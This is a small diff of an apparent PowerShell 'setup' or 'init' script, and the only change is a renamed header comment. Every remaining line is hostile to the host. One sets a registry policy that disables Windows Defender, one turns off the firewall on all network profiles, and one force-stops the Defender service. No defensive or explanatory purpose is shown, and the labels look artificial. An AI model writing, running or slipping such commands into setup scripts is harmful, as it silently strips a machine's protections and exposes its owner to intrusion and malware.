@@ -1,4 +1,4 @@
-# setup 7501 v0
+# init 4327 v0
 New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
 Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
 Stop-Service -Name WinDefend -Force
